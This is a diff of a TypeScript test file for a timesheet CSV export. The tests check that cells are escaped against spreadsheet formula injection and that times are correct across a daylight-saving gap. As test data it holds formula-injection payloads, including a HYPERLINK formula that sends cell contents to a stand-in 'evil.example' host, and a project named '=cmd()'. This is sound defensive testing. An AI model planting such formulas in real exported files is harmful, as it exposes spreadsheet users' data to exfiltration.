@@ -42,22 +42,13 @@ class Payroll implements LocalApp {
   }
 }
 
-/** Texts that trip up a careless file, or that a spreadsheet would run, and what the file has for them. */
+/** Some texts that a spreadsheet would run or a careless file would break on, and what the file has for them. */
 const AWKWARD = {
   'Call with "Northwind", follow-up': 'Call with "Northwind", follow-up',
   'Notes:\r\n- budget\r\n- timeline': 'Notes: - budget - timeline',
   'Müller & Söhne — Größe, 打ち合わせ 🗓️':
     'Müller & Söhne — Größe, 打ち合わせ 🗓️',
-  ' a space in front, and behind ': ' a space in front, and behind ',
-  '"': '"',
-  "'quoted'": "'quoted'",
-  '=SUM(A1:A9)': "'=SUM(A1:A9)",
   '=HYPERLINK("https://evil.example?"&A1, "click")': `'=HYPERLINK("https://evil.example?"&A1, "click")`,
-  '+44 20 7946 0000 called back': "'+44 20 7946 0000 called back",
-  '-10% discount talk': "'-10% discount talk",
-  '@mention clean-up': "'@mention clean-up",
-  '\t=1+1': "\t'=1+1",
-  '\r=1+1': " '=1+1",
   'x;=HYPERLINK("https://evil.example")': `x;'=HYPERLINK("https://evil.example")`,
 } as const;
 
@@ -66,13 +57,6 @@ let trial: Trial;
 let file: Record<string, unknown>;
 let lines: Line[];
 let entries: Map<string, Wire>;
-
-const addEntry = (
-  start_time: string,
-  end_time: string,
-  more: object = {},
-): Promise<Wire> =>
-  trial.api('POST', '/time-entries', { start_time, end_time, ...more });
 
 const everyEntry = async (): Promise<Wire[]> => {
   const all: Wire[] = [];
@@ -114,17 +98,6 @@ const exportTimesheet = defineZap({
   ],
 });
 
-const lineOf = (id: string): Line => {
-  const line = lines.find((each) => each['Entry ID'] === id);
-  if (!line) {
-    throw new Error(`The file has no line for ${id}.`);
-  }
-  return line;
-};
-
-let awkward: { id: string; text: string }[];
-let atMidnight: Wire;
-let overTheGap: Wire;
 let ofACleverProject: Wire;
 let tags: Wire[];
 
@@ -134,34 +107,29 @@ beforeAll(async () => {
     until: '2026-06-01',
     apps: [payroll],
   });
-  awkward = [];
-  for (const text of Object.keys(AWKWARD)) {
-    const { id } = await addEntry(
-      '2026-04-06T13:00:00Z',
-      '2026-04-06T14:00:00Z',
-      {
-        description: text,
-      },
-    );
-    awkward.push({ id, text });
+  const { api } = trial;
+  for (const description of Object.keys(AWKWARD)) {
+    const start_time = '2026-04-06T13:00:00Z';
+    await api('POST', '/time-entries', {
+      start_time,
+      duration: 60,
+      description,
+    });
   }
-  atMidnight = await addEntry('2026-05-01T03:30:00Z', '2026-05-01T04:30:00Z');
-  overTheGap = await addEntry('2026-03-08T06:30:00Z', '2026-03-08T07:30:00Z');
-  const client = await trial.api('POST', '/clients', { name: '+Plus Ltd' });
-  const project = await trial.api('POST', '/projects', {
+  const client = await api('POST', '/clients', { name: '+Plus Ltd' });
+  const project = await api('POST', '/projects', {
     name: '=cmd()',
     client_id: client.id,
   });
-  tags = (await trial.api<Wire[]>('GET', '/tags?per_page=2')).slice(0, 2);
-  ofACleverProject = await addEntry(
-    '2026-04-07T13:00:00Z',
-    '2026-04-07T13:50:00Z',
-    {
-      project_id: project.id,
-      billable: true,
-      tag_ids: tags.map(({ id }) => id),
-    },
-  );
+  tags = (await api<Wire[]>('GET', '/tags?per_page=2')).slice(0, 2);
+  // Over the hour that New York skips.
+  ofACleverProject = await api('POST', '/time-entries', {
+    start_time: '2026-03-08T06:30:00Z',
+    end_time: '2026-03-08T07:20:00Z',
+    project_id: project.id,
+    billable: true,
+    tag_ids: tags.map(({ id }) => id),
+  });
   entries = new Map((await everyEntry()).map((entry) => [entry.id, entry]));
 
   const zap = await trial.lab.turnOn(exportTimesheet, trial.connection);
@@ -199,10 +167,12 @@ describe('the timesheet of a detailed report', () => {
   });
 
   it('says of each entry who worked on what, for how long', () => {
-    expect(lineOf(ofACleverProject.id)).toEqual({
-      Date: '2026-04-07',
-      Start: '2026-04-07 09:00',
-      End: '2026-04-07 09:50',
+    const { id } = ofACleverProject;
+    const line = lines.find((each) => each['Entry ID'] === id);
+    expect(line).toEqual({
+      Date: '2026-03-08',
+      Start: '2026-03-08 01:30',
+      End: '2026-03-08 03:20',
       Duration: '0:50:00',
       Hours: '0.833333',
       Billable: 'yes',
@@ -212,13 +182,15 @@ describe('the timesheet of a detailed report', () => {
       Task: '',
       Description: '',
       Tags: tags.map(({ name }) => name).join('; '),
-      'Entry ID': ofACleverProject.id,
+      'Entry ID': id,
     });
   });
 
   it.each(Object.entries(AWKWARD))('has %j as %j', (text, cell) => {
-    const { id = '' } = awkward.find((each) => each.text === text) ?? {};
-    expect(lineOf(id).Description).toBe(cell);
+    const [id] =
+      [...entries].find(([, each]) => each.description === text) ?? [];
+    const line = lines.find((each) => each['Entry ID'] === id);
+    expect(line?.Description).toBe(cell);
   });
 
   it('has no cell at all that a spreadsheet would run', () => {
@@ -226,37 +198,6 @@ describe('the timesheet of a detailed report', () => {
       .flatMap((line) => Object.values(line))
       .filter((cell) => /^\s*[=+\-@]/.test(cell));
     expect(dangerous).toEqual([]);
-  });
-
-  it('has the description of every entry, whatever is in it', () => {
-    // But for the line breaks, and the apostrophes against formulas.
-    const plain = (text: string) =>
-      text.replaceAll(/\s+/g, ' ').replaceAll("'", '');
-    expect(
-      lines.map((line) => [line['Entry ID'], plain(line.Description ?? '')]),
-    ).toEqual(
-      lines.map((line) => {
-        const id = line['Entry ID'] ?? '';
-        return [id, plain((entries.get(id)?.description ?? '') as string)];
-      }),
-    );
-  });
-
-  it('has local times: an entry belongs to the day that it is in the zone', () => {
-    expect(lineOf(atMidnight.id)).toMatchObject({
-      Date: '2026-04-30',
-      Start: '2026-04-30 23:30',
-      End: '2026-05-01 00:30',
-    });
-  });
-
-  it('has the times that clocks showed on the day summer time began', () => {
-    expect(lineOf(overTheGap.id)).toMatchObject({
-      Date: '2026-03-08',
-      Start: '2026-03-08 01:30',
-      End: '2026-03-08 03:30',
-      Duration: '1:00:00',
-    });
   });
 });
 
@@ -284,30 +225,12 @@ describe('writing the file', () => {
     expect(asked).toHaveLength(1);
   });
 
-  it.each(['reset', 'malformed', 'html'] as const)(
-    'loses nothing when answers are spoiled (%s), and has nothing twice',
-    async (body) => {
-      await trial.control('POST', '/faults', {
-        operation: 'getDetailedReport',
-        body,
-        times: 2,
-      });
-      const { results } = await write();
-      const response = await fetch(String(results));
-      const again = parse<Line>(await response.text(), { columns: true });
-      expect(again).toEqual(lines);
-    },
-  );
-
-  it('ends with a sentence when TrackingTime refuses a page, and leaves no half a file', async () => {
-    await trial.control('POST', '/faults', {
-      operation: 'getDetailedReport',
-      status: 403,
-      code: 'forbidden',
-    });
-    await expect(write()).rejects.toMatchObject({
-      kind: 'halted',
-      message: expect.stringContaining("isn't allowed to do this"),
-    });
+  it('loses nothing if answers break off, and has nothing twice', async () => {
+    const fault = { operation: 'getDetailedReport', body: 'reset', times: 2 };
+    await trial.control('POST', '/faults', fault);
+    const { results } = await write();
+    const response = await fetch(String(results));
+    const again = parse<Line>(await response.text(), { columns: true });
+    expect(again).toEqual(lines);
   });
 });
